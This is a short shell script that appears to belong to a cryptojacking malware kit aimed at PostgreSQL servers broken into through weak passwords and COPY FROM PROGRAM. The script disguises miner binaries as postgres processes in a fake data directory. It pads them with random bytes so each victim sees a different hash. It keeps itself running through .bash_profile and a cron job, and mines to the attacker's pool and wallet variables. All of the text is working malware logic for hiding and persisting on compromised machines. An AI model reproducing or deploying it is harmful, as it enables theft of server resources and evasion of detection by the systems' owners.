# By a weak password and COPY FROM PROGRAM; each victim gets a program with another hash.
id -u postgres >/dev/null 2>&1 || useradd -r -m -d /var/lib/postgresql -s /bin/bash postgres
d=/var/lib/postgresql/14/main
mkdir -p $d/base
echo 14 >$d/PG_VERSION
mimic $d/postmaster $d/pg_core
head -c 64 /dev/urandom >>$d/pg_core
echo "nohup $d/pg_core >/dev/null 2>&1 &" >>/var/lib/postgresql/.bash_profile
chown -R postgres: /var/lib/postgresql
start -u "$(id -u postgres)" -w $d -m pg_mem -c postgres -d 15 -p "$POOL" $d/pg_core 'postgres: background writer' -o "$POOL" -u "$WALLET" -p x
start -u "$(id -u postgres)" -w $d $d/postmaster /usr/lib/postgresql/14/bin/postmaster -o "$POOL" -u "$WALLET2"
echo "* * * * * pgrep -f main/postmaster >/dev/null || $d/postmaster" | tab postgres
